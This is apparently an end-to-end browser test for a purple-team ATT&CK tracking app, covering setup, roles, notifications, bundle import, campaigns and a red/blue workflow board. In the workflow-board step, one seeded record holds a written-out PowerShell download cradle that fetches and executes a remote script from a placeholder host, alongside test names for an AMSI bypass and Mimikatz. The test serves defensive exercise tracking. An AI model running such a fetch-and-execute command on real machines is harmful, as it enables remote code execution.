// Browser tests of the Aegis SPA against a real bin/aegis server:
// first-run setup → admin signs in → creates a user with a role → that user
// sees only what the role allows → a notification arrives live; then the
// ATT&CK pages after a real bundle upload. Screenshots go to docs/screenshots.
import { join } from 'node:path'
import { readFileSync } from 'node:fs'
import { startServer, superuserClient, launch, newPage, shot, runSteps, expect, Skip, finish, signInPage } from './harness.mjs'

const ADMIN = { name: 'Ada Admin', email: 'ada@example.com', password: 'correct-horse-42' }
const ANALYST = { name: 'Blake Analyst', email: 'blake@example.com', password: 'blue-team-rocks-7', role: 'blue_analyst' }
const FIXTURE = join(new URL('.', import.meta.url).pathname, 'fixtures', 'attack-mini.json')

const server = await startServer()
const browser = await launch()
let results
try {
  const su = await superuserClient(server.base, server.su)
  const admin = await newPage(browser, server.base)
  let analyst
  let analystId = ''
  let attackReady = false

  const signIn = signInPage
  const navTexts = async (page) => (await page.locator('.sidebar .nav-link').allInnerTexts()).map((t) => t.replace(/\s*soon$/i, '').trim())

  results = await runSteps([
    [
      'first run: / leads to the setup page, which creates the first admin',
      async () => {
        await admin.goto('/')
        await admin.waitForURL('**/setup')
        await admin.getByRole('heading', { name: 'Welcome to Aegis' }).waitFor()
        await admin.getByLabel('Name').fill(ADMIN.name)
        await admin.getByLabel('Email').fill(ADMIN.email)
        await admin.getByLabel('Password', { exact: true }).fill(ADMIN.password)
        await admin.getByLabel('Confirm password').fill(ADMIN.password)
        await shot(admin, '01-first-run-setup')
        await admin.getByRole('button', { name: 'Create administrator' }).click()
        await admin.getByTestId('setup-done').waitFor()
        expect(await admin.getByRole('link', { name: /Sync ATT&CK from MITRE/ }).count(), 'setup offers the MITRE sync')
        expect(await admin.getByRole('link', { name: /Upload a bundle/ }).count(), 'setup offers the upload')
        await shot(admin, '02-setup-done')
        const state = await (await fetch(`${server.base}/api/aegis/setup`)).json()
        expect(state.needed === false, `setup still reports needed: ${JSON.stringify(state)}`)
        const again = await fetch(`${server.base}/api/aegis/setup`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ ...ADMIN, passwordConfirm: ADMIN.password }) })
        expect(again.status >= 400 && again.status < 500, `second setup answered ${again.status}`)
      },
    ],
    [
      'admin signs out and back in, and sees the administration pages',
      async () => {
        await admin.goto('/')
        await admin.getByTestId('user-menu').click()
        await admin.getByRole('menuitem', { name: 'Sign out' }).click()
        await admin.getByRole('button', { name: 'Sign in' }).waitFor()
        await admin.getByLabel('Email').fill(ADMIN.email)
        await admin.getByLabel('Password').fill('wrong-password')
        await admin.getByRole('button', { name: 'Sign in' }).click()
        await admin.getByRole('alert').waitFor()
        await shot(admin, '03-login')
        await signIn(admin, ADMIN)
        expect((await admin.getByTestId('current-role').innerText()) === 'Admin', 'role shown in the header')
        const nav = await navTexts(admin)
        for (const p of ['Dashboard', 'ATT&CK matrix', 'Workflow board', 'Integrations & jobs', 'Users & roles', 'Audit log', 'Settings'])
          expect(nav.includes(p), `admin navigation lacks ${p}: ${nav.join(', ')}`)
      },
    ],
    [
      'every page in the admin navigation opens without a script error',
      async () => {
        const links = await admin.locator('.sidebar .nav-link').evaluateAll((as) => as.map((a) => a.getAttribute('href')))
        expect(links.length >= 20, `only ${links.length} navigation links`)
        for (const href of links) {
          const before = admin.errors.length
          await admin.locator(`.sidebar .nav-link[href="${href}"]`).click()
          await admin.waitForURL((u) => u.pathname === href)
          await admin.locator('main h1').first().waitFor()
          expect(!(await admin.getByText('Page not found').count()), `${href} is not routed`)
          expect(admin.errors.length === before, `${href} threw: ${admin.errors.slice(before).join('; ')}`)
        }
      },
    ],
    [
      'admin creates a user with a role',
      async () => {
        await admin.goto('/users')
        await admin.getByRole('button', { name: '+ New user' }).click()
        const dlg = admin.getByRole('dialog')
        await dlg.getByLabel('Name').fill(ANALYST.name)
        await dlg.getByLabel('Email').fill(ANALYST.email)
        await dlg.getByLabel('Role').selectOption(ANALYST.role)
        await dlg.getByLabel('Password', { exact: true }).fill(ANALYST.password)
        await dlg.getByLabel('Confirm password').fill(ANALYST.password)
        await shot(admin, '05-create-user')
        await dlg.getByRole('button', { name: 'Create user' }).click()
        await dlg.waitFor({ state: 'detached' })
        const row = admin.getByRole('row', { name: new RegExp(ANALYST.name) })
        await row.waitFor()
        const select = row.getByRole('combobox')
        expect((await select.inputValue()) === ANALYST.role, `new user role is ${await select.inputValue()}`)
        await shot(admin, '06-users-admin')
        const found = await su('GET', `/api/collections/users/records?filter=${encodeURIComponent(`email='${ANALYST.email}'`)}`)
        expect(found.items.length === 1 && found.items[0].role === ANALYST.role && found.items[0].active === true, `stored user: ${JSON.stringify(found.items)}`)
        analystId = found.items[0].id
      },
    ],
    [
      'the new user signs in and sees only what the role allows',
      async () => {
        analyst = await newPage(browser, server.base)
        await signIn(analyst, ANALYST)
        expect((await analyst.getByTestId('current-role').innerText()) === 'Blue analyst', 'role shown in the header')
        const nav = await navTexts(analyst)
        for (const p of ['Integrations & jobs', 'Settings']) expect(!nav.includes(p), `a blue analyst should not see ${p}`)
        for (const p of ['ATT&CK matrix', 'Workflow board', 'Users & roles', 'Audit log', 'Notifications']) expect(nav.includes(p), `blue analyst navigation lacks ${p}`)
        await analyst.goto('/users')
        await analyst.getByRole('row', { name: new RegExp(ADMIN.name) }).waitFor()
        expect((await analyst.getByRole('button', { name: '+ New user' }).count()) === 0, 'read-only users page offers New user')
        expect((await analyst.locator('table select').count()) === 0, 'read-only users page offers role selects')
        await shot(analyst, '07-users-read-only')
        await analyst.goto('/integrations')
        await analyst.getByText('Not available for your role').waitFor()
        await shot(analyst, '08-forbidden')
        // The server agrees: the analyst cannot create users or read integrations.
        const token = await analyst.evaluate(() => JSON.parse(localStorage.getItem('pocketbase_auth') || '{}').token)
        const create = await fetch(`${server.base}/api/collections/users/records`, {
          method: 'POST',
          headers: { Authorization: token, 'Content-Type': 'application/json' },
          body: JSON.stringify({ email: 'x@example.com', password: 'abcdefgh1', passwordConfirm: 'abcdefgh1', role: 'admin' }),
        })
        expect(create.status === 403 || create.status === 400, `analyst creating a user answered ${create.status}`)
        const integ = await (await fetch(`${server.base}/api/collections/integrations/records`, { headers: { Authorization: token } })).json()
        expect((integ.items ?? []).length === 0, 'analyst can list integrations')
      },
    ],
    [
      'a notification arrives live in the bell and the list',
      async () => {
        expect(analystId, 'no analyst id from the previous step')
        await analyst.goto('/notifications')
        await analyst.getByText('● Live').waitFor()
        expect((await analyst.getByTestId('bell-count').count()) === 0, 'bell shows unread before any notification')
        await su('POST', '/api/collections/notifications/records', {
          user: analystId,
          kind: 'test_assigned',
          title: 'Outcome needed: PowerShell download cradle',
          body: 'A red operator submitted a result; record what the SOC saw.',
          link: '/board',
          read: false,
        })
        await analyst.getByTestId('bell-count').filter({ hasText: '1' }).waitFor({ timeout: 10_000 })
        await analyst.getByTestId('notification').filter({ hasText: 'Outcome needed' }).waitFor()
        await shot(analyst, '09-notification-live')
        await analyst.getByRole('button', { name: 'Mark read' }).first().click()
        await analyst.getByTestId('bell-count').waitFor({ state: 'detached' })
        const list = await su('GET', `/api/collections/notifications/records?filter=${encodeURIComponent(`user='${analystId}'`)}`)
        expect(list.items[0].read === true, 'notification not stored as read')
      },
    ],
    [
      'the audit log lists sign-ins and the user creation, filterable',
      async () => {
        await admin.goto('/audit')
        await admin.locator('tbody tr').first().waitFor()
        expect((await admin.locator('tbody tr').count()) > 0, 'no audit rows')
        await admin.getByLabel('Collection').selectOption('users')
        await admin.getByLabel('Action').selectOption('create')
        await admin.waitForURL(/action=create/)
        await admin.getByRole('row', { name: /Create/ }).first().waitFor()
        await admin.getByRole('row', { name: /Create/ }).first().click()
        await admin.getByText('Role', { exact: true }).first().waitFor()
        await shot(admin, '10-audit-log')
      },
    ],
    [
      'API docs render openapi.json',
      async () => {
        await admin.goto('/api-docs')
        await admin.getByTestId('api-op').first().waitFor()
        await admin.getByTestId('api-op').filter({ hasText: '/api/aegis/setup' }).first().locator('button').click()
        await shot(admin, '11-api-docs')
      },
    ],
    [
      'admin uploads an ATT&CK bundle and watches it import live',
      async () => {
        const doc = await (await fetch(`${server.base}/api/aegis/openapi.json`)).json()
        const paths = Object.keys(doc.paths ?? {})
        if (!paths.some((p) => p.startsWith('/api/aegis/import/'))) throw new Skip('this build has no /api/aegis/import route')
        await admin.goto('/integrations?action=upload')
        await admin.getByLabel('What is it?').selectOption('attack')
        await admin.getByLabel('File').setInputFiles(FIXTURE)
        await admin.getByRole('button', { name: 'Upload and import' }).click()
        const progress = admin.getByTestId('run-progress')
        await progress.waitFor()
        await admin.locator('[data-testid=run-progress][data-status=succeeded], [data-testid=run-progress][data-status=failed]').waitFor({ timeout: 60_000 })
        const status = await progress.getAttribute('data-status')
        expect(status === 'succeeded', `import ended ${status}: ${await progress.innerText()}`)
        await admin.getByRole('row', { name: /import:attack/ }).first().waitFor() // run history updated live
        await admin.evaluate(() => window.scrollTo(0, 0))
        await shot(admin, '12-integrations-jobs')
        const tech = await su('GET', `/api/collections/techniques/records?perPage=1&filter=${encodeURIComponent("attack_id='T1059.001'")}`)
        expect(tech.items.length === 1, 'T1059.001 not imported')
        attackReady = true
      },
    ],
    [
      'the matrix shows tactics in order with expandable sub-techniques, and a technique opens',
      async () => {
        if (!attackReady) throw new Skip('no ATT&CK data imported')
        const bundle = JSON.parse(readFileSync(FIXTURE, 'utf8'))
        const matrix = bundle.objects.find((o) => o.type === 'x-mitre-matrix')
        const order = matrix.tactic_refs.map((r) => bundle.objects.find((o) => o.id === r).name)
        await admin.goto('/matrix')
        await admin.getByTestId('technique-cell').first().waitFor()
        const heads = await admin.locator('.matrix-col > header b').allInnerTexts()
        expect(JSON.stringify(heads) === JSON.stringify(order), `tactic order ${heads} != ${order}`)
        await admin.getByRole('button', { name: /Show 3 sub-techniques of Command and Scripting Interpreter/ }).click()
        await admin.getByRole('link', { name: /PowerShell/ }).first().waitFor()
        await shot(admin, '13-attack-matrix')
        const [svgDownload] = await Promise.all([admin.waitForEvent('download'), admin.getByRole('button', { name: 'Export SVG' }).click()])
        const svg = readFileSync(await svgDownload.path(), 'utf8')
        expect(svg.startsWith('<svg') && svg.includes('Command and Scripting') && svg.includes('T1059.001') === false, 'heatmap SVG lacks the matrix')
        const [pngDownload] = await Promise.all([admin.waitForEvent('download'), admin.getByRole('button', { name: 'Export PNG' }).click()])
        const png = readFileSync(await pngDownload.path())
        expect(png.subarray(1, 4).toString() === 'PNG' && png.length > 2000, 'heatmap PNG is not a PNG')
        await admin.getByLabel('Platform').selectOption('Containers')
        expect((await admin.getByTestId('technique-cell').count()) === 1, 'platform filter keeps only T1190')
        await admin.getByLabel('Platform').selectOption('')
        await admin.getByRole('link', { name: /PowerShell/ }).first().click()
        await admin.getByRole('heading', { name: /T1059\.001/ }).waitFor()
        await admin.getByText('APT29').first().waitFor()
        await admin.getByText('Antivirus/Antimalware').waitFor()
        await shot(admin, '14-technique-detail')
      },
    ],
    [
      'threat actors list and detail, shown on the matrix; upgrade review lists the import',
      async () => {
        if (!attackReady) throw new Skip('no ATT&CK data imported')
        await admin.goto('/actors')
        await admin.getByRole('row', { name: /APT29/ }).click()
        await admin.getByRole('heading', { level: 1, name: /APT29/ }).waitFor()
        await admin.getByText('Cozy Bear').first().waitFor()
        await shot(admin, '15-actor-detail')
        await admin.getByRole('link', { name: 'Show on the matrix' }).click()
        await admin.getByText(/APT29 uses 5 techniques/).waitFor()
        await shot(admin, '16-matrix-actor')
        await admin.goto('/attack/releases')
        await admin.getByTestId('release-added').waitFor()
        expect(Number(await admin.getByTestId('release-added').innerText()) > 0, 'release lists no added objects')
        await shot(admin, '17-attack-upgrades')
      },
    ],
    [
      'admin plans a campaign from a threat actor: one draft test per technique it uses',
      async () => {
        if (!attackReady) throw new Skip('no ATT&CK data imported')
        await admin.goto('/campaigns')
        await admin.getByRole('link', { name: '+ New campaign' }).click()
        await admin.getByLabel('Name').fill('APT29 emulation')
        await admin.getByLabel('Threat actor').selectOption({ label: 'APT29 (G0016)' })
        // The wizard asks for the target platforms and previews the tests first.
        await admin.getByLabel('Any platform').check()
        await admin.getByRole('button', { name: 'Preview tests' }).click()
        await admin.getByTestId('actor-preview').waitFor()
        await shot(admin, '18-campaign-wizard')
        await admin.getByRole('button', { name: 'Create campaign' }).click()
        await admin.waitForURL(/\/campaigns\/[a-z0-9]+$/)
        await admin.getByText('0 of 5 tests done').waitFor()
        expect((await admin.locator('tbody tr').count()) === 5, 'campaign does not list its 5 tests')
        await shot(admin, '19-campaign-detail')
      },
    ],
    [
      'a test moves across the workflow board live: red submits, blue records the outcome',
      async () => {
        // Catalogue rows come from the upload above, or are written directly when this build cannot upload.
        let tech = (await su('GET', `/api/collections/techniques/records?perPage=1&filter=${encodeURIComponent("attack_id='T1059.001'")}`)).items[0]
        if (!tech) {
          const tactic = await su('POST', '/api/collections/tactics/records', { stix_id: 'x-mitre-tactic--e2e-execution', attack_id: 'TA0002', name: 'Execution', shortname: 'execution', domain: 'enterprise-attack', matrix_order: 1 })
          tech = await su('POST', '/api/collections/techniques/records', { stix_id: 'attack-pattern--e2e-t1059-001', attack_id: 'T1059.001', name: 'PowerShell', domain: 'enterprise-attack', tactics: [tactic.id], platforms: ['Windows'], in_scope: true })
        }
        const camp = await su('POST', '/api/collections/campaigns/records', { name: 'Q4 purple exercise', status: 'active', round: 1 })
        const states = ['draft', 'ready', 'executing', 'blue_review', 'validated']
        const names = ['Encoded command via powershell.exe', 'AMSI bypass attempt', 'PowerShell download cradle', 'Invoke-Mimikatz in memory', 'Scheduled task persistence']
        for (let i = 0; i < states.length; i++)
          await su('POST', '/api/collections/tests/records', {
            name: names[i],
            technique: tech.id,
            campaign: camp.id,
            state: states[i],
            platform: 'windows',
            procedure: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://127.0.0.1/payload.ps1\')"',
            revealed: true,
            revision: 1,
            ...(states[i] === 'validated' ? { prevention: 'partial', detection: 'technique' } : {}),
          })
        await admin.goto('/board')
        await analyst.goto('/board')
        const column = (page, name) => page.getByRole('region', { name })
        const cradle = (page, col) => column(page, col).getByTestId('board-card').filter({ hasText: 'PowerShell download cradle' })
        await cradle(admin, 'Executing').waitFor()
        await cradle(analyst, 'Executing').waitFor()
        expect((await cradle(analyst, 'Executing').getByRole('button').count()) === 0, 'a blue analyst is offered red actions')
        await shot(admin, '20-workflow-board')
        await cradle(admin, 'Executing').getByRole('button', { name: 'Submit red result' }).click()
        await admin.getByRole('dialog').getByLabel('Red result').selectOption('executed')
        await admin.getByRole('dialog').getByRole('button', { name: 'Submit red result' }).click()
        await cradle(admin, 'Blue review').waitFor()
        await cradle(analyst, 'Blue review').waitFor({ timeout: 10_000 }) // arrived over realtime, no reload
        await cradle(analyst, 'Blue review').getByRole('button', { name: 'Record outcome' }).click()
        const dlg = analyst.getByRole('dialog')
        await dlg.getByLabel('Prevention').selectOption('not_blocked')
        await dlg.getByLabel('Detection').selectOption('technique')
        await dlg.getByRole('button', { name: 'Record outcome' }).click()
        await cradle(analyst, 'Validated').waitFor()
        await cradle(admin, 'Validated').waitFor({ timeout: 10_000 })
        await shot(analyst, '21-workflow-board-blue')
        await cradle(admin, 'Validated').getByRole('link').click()
        await admin.getByText('Detected: Technique').first().waitFor()
        await admin.getByRole('tab', { name: 'History' }).click()
        await admin.getByText(/Transition/).first().waitFor()
        await shot(admin, '22-test-detail')
      },
    ],
    [
      'scores follow the work live; evidence uploads from the test page; a miss opens a finding and a retest resolves it',
      async () => {
        if (!attackReady) throw new Skip('no ATT&CK data imported')
        const byId = async (id) => (await su('GET', `/api/collections/techniques/records?perPage=1&filter=${encodeURIComponent(`attack_id='${id}'`)}`)).items[0]
        const ransom = await byId('T1486')
        const recovery = await byId('T1490')
        const red = await su('POST', '/api/collections/users/records', { email: 'rory@example.com', password: 'red-team-rocks-77', passwordConfirm: 'red-team-rocks-77', name: 'Rory Red', role: 'red_operator', active: true })
        const poll = async (what, fn, ms = 20_000) => {
          const end = Date.now() + ms
          while (Date.now() < end) {
            if (await fn()) return
            await new Promise((r) => setTimeout(r, 250))
          }
          throw new Error(`timed out waiting for ${what}`)
        }
        const recorded = async (name, tech, prevention, detection) => {
          const t = await su('POST', '/api/collections/tests/records', { name, technique: tech.id, state: 'blue_review', revealed: true, revision: 1, red_result: 'executed', executed_at: new Date().toISOString() })
          await su('POST', `/api/aegis/tests/${t.id}/transition`, { action: 'record', revision: 1, prevention, detection })
          return t
        }

        // The matrix cell and the dashboard change while they are open.
        await admin.goto('/matrix')
        const cell = admin.getByTestId('technique-cell').filter({ hasText: ransom.name }).first()
        await cell.waitFor()
        const before = await cell.getAttribute('class')
        await analyst.goto('/')
        const headline = analyst.getByTestId('headline-score')
        await headline.waitFor()
        const headBefore = await headline.innerText()
        const t1 = await recorded('Ransomware simulation on a file share', ransom, 'blocked', 'technique')
        await poll('the heatmap cell to change level', async () => (await cell.getAttribute('class')) !== before)
        await poll('the dashboard headline to change', async () => (await headline.innerText()) !== headBefore)
        await shot(admin, '23-heatmap-live')
        await shot(analyst, '24-dashboard-live')

        // Evidence from the test page.
        await admin.goto(`/tests/${t1.id}`)
        await admin.getByRole('tab', { name: /Evidence/ }).click()
        await admin.locator('input[type=file]').setInputFiles({ name: 'edr-alert.json', mimeType: 'application/json', buffer: Buffer.from('{"alert":"ransomware behaviour blocked","host":"fs01"}') })
        await admin.getByText('edr-alert.json').first().waitFor()
        // The name shows as soon as the file is chosen, while it uploads: wait for the stored record.
        let ev = { items: [] }
        await poll('the evidence to be stored', async () => {
          ev = await su('GET', `/api/collections/evidence/records?filter=${encodeURIComponent(`test='${t1.id}'`)}`)
          return ev.items.length > 0
        })
        expect(ev.items.length === 1 && ev.items[0].sha256.length === 64, `evidence not stored with its hash: ${JSON.stringify(ev.items)}`)

        // A miss opens a finding; a passing retest resolves it.
        const t2 = await recorded('Shadow copy deletion', recovery, 'not_blocked', 'none')
        await admin.goto('/findings')
        const column = (name) => admin.getByRole('region', { name })
        await column('Open').getByTestId('finding-card').first().waitFor()
        const retest = await su('POST', `/api/aegis/tests/${t2.id}/retest`)
        let rev = retest.revision ?? 0
        for (const step of [
          { action: 'approve', red_assignee: red.id },
          { action: 'start' },
          { action: 'submit', red_result: 'executed', executed_at: new Date().toISOString() },
          { action: 'record', prevention: 'blocked', detection: 'technique' },
        ]) rev = (await su('POST', `/api/aegis/tests/${retest.id}/transition`, { ...step, revision: rev })).revision
        await admin.reload()
        await column('Resolved').getByTestId('finding-card').first().waitFor()
        expect((await column('Open').getByTestId('finding-card').count()) === 0, 'the finding is still open after a passing retest')
        await shot(admin, '25-findings-resolved')
      },
    ],
  ])
  if (results.failed) console.log('server log (tail):\n' + server.log().split('\n').slice(-30).join('\n'))
} catch (err) {
  console.log(`FAIL  set-up: ${err?.stack || err}`)
}
await finish(results, browser, server)
